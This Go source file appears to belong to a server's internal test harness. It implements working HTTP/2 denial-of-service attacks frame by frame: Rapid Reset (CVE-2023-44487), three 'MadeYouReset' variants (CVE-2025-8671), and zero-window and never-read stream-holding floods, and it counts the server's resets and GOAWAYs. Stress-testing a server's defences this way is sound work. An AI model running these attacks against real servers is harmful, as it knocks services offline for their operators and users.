package attacker

// Attacks on HTTP/2, frame by frame.

import (
	"context"
	"time"

	"golang.org/x/net/http2"

	"github.com/h2file/caddy-h2file/internal/harness/h2client"
)

// h2Attack is an attack whose attackers each drive HTTP/2 connections
// made with o: loop attacks over one until ctx is done or it fails.
// Unless noRead, a connection's frames are read (and counted) as they
// come, with no flow-control credit given.
func h2Attack(name string, conns int, o h2client.Options, noRead bool,
	loop func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error) Attack {
	run := func(ctx context.Context, addr, path string, st *Stats) error {
		var last error
		for ctx.Err() == nil {
			c, err := h2client.Dial(addr, o)
			if err != nil {
				last = err
				pause(ctx)
				continue
			}
			st.Dials.Add(1)
			dialed := time.Now()
			drained := make(chan struct{})
			if noRead {
				close(drained)
			} else {
				go drain(c, st, drained)
			}
			stop := context.AfterFunc(ctx, c.Close)
			if err := loop(ctx, c, path, st); err != nil {
				last = err
			}
			if stop() && ctx.Err() == nil {
				// the attack goes on: the server ended the connection,
				// counted from its GOAWAY if one came
				end := time.Now()
				if at, ok := c.GoAwayAt(); ok {
					end = at
				}
				st.Cut.Add(1)
				st.CutNanos.Add(int64(end.Sub(dialed)))
			}
			c.Close()
			<-drained
		}
		return last
	}
	return Attack{Name: name, Conns: conns, run: run}
}

// drain reads c's frames into st until c fails, then closes drained.
func drain(c *h2client.Conn, st *Stats, drained chan<- struct{}) {
	defer close(drained)
	fl, _ := c.Drain()
	st.Resets.Add(int64(fl.Resets))
	st.Received.Add(fl.DataSize)
	if fl.GotAway {
		st.GoAways.Add(1)
		if fl.GoAway == http2.ErrCodeEnhanceYourCalm {
			st.Calm.Add(1)
		}
	}
}

// RapidReset (CVE-2023-44487) opens streams and cancels each at once,
// as fast as one connection can.
func RapidReset() Attack {
	return h2Attack("rapid reset", 1, h2client.Options{}, false, func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
		for ctx.Err() == nil {
			id, err := c.Get(path)
			if err != nil {
				return err
			}
			st.Requests.Add(1)
			if err := c.RST(id, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return nil
	})
}

// DataPastWindow ("MadeYouReset", CVE-2025-8671) makes the server reset
// each stream itself: a GET whose HEADERS leave the stream open, so that
// its handler starts, then one byte more of DATA than the stream's window
// (window: what the server's SETTINGS grant), which the server answers
// with RST_STREAM (FLOW_CONTROL_ERROR).
func DataPastWindow(window int) Attack {
	body := make([]byte, window+1)
	return h2Attack("MadeYouReset, DATA past the window", 1, h2client.Options{}, false, func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
		for ctx.Err() == nil {
			id, err := c.Open(path, false)
			if err != nil {
				return err
			}
			st.Requests.Add(1)
			for p := body; len(p) > 0; {
				n := min(len(p), 1<<14)
				if err := c.WriteData(id, n == len(p), p[:n]); err != nil {
					return err
				}
				p = p[n:]
			}
		}
		return nil
	})
}

// DataAfterEndStream ("MadeYouReset") makes the server reset each
// stream itself, as fast as one connection can: a GET whose HEADERS end
// the stream, so that its handler starts, then a byte of DATA on the
// stream, which the server answers with RST_STREAM (STREAM_CLOSED).
func DataAfterEndStream() Attack {
	return h2Attack("MadeYouReset, DATA after END_STREAM", 1, h2client.Options{}, false, func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
		for ctx.Err() == nil {
			id, err := c.Get(path)
			if err != nil {
				return err
			}
			st.Requests.Add(1)
			if err := c.WriteData(id, true, []byte{0}); err != nil {
				return err
			}
		}
		return nil
	})
}

// PseudoHeaderTrailer ("MadeYouReset") makes the server reset each
// stream itself: a GET whose HEADERS leave the stream open, so that its
// handler starts, then a trailer section carrying a pseudo-header, which
// the server answers with RST_STREAM (PROTOCOL_ERROR).
func PseudoHeaderTrailer() Attack {
	return h2Attack("MadeYouReset, pseudo-header in trailers", 1, h2client.Options{}, false, func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
		for ctx.Err() == nil {
			id, err := c.Open(path, false)
			if err != nil {
				return err
			}
			st.Requests.Add(1)
			if err := c.WriteHeaders(id, true, [2]string{":path", path}); err != nil {
				return err
			}
		}
		return nil
	})
}

// ZeroWindow opens perConn streams on each of conns connections that
// grant no flow-control credit (SETTINGS_INITIAL_WINDOW_SIZE 0), and
// holds them open without reading a byte of body.
func ZeroWindow(conns, perConn int) Attack {
	return h2Attack("zero windows", conns, h2client.Options{ZeroWindow: true}, false, holdStreams(perConn))
}

// NeverRead opens perConn streams with large windows on each of conns
// connections, then never reads the socket.
func NeverRead(conns, perConn int) Attack {
	o := h2client.Options{StreamWindow: 1 << 30, ConnWindow: 1 << 30}
	return h2Attack("never reading", conns, o, true, holdStreams(perConn))
}

// holdStreams opens n streams, then waits for the attack's end.
func holdStreams(n int) func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
	return func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
		for range n {
			if _, err := c.Get(path); err != nil {
				return err
			}
			st.Requests.Add(1)
		}
		<-ctx.Done()
		return nil
	}
}
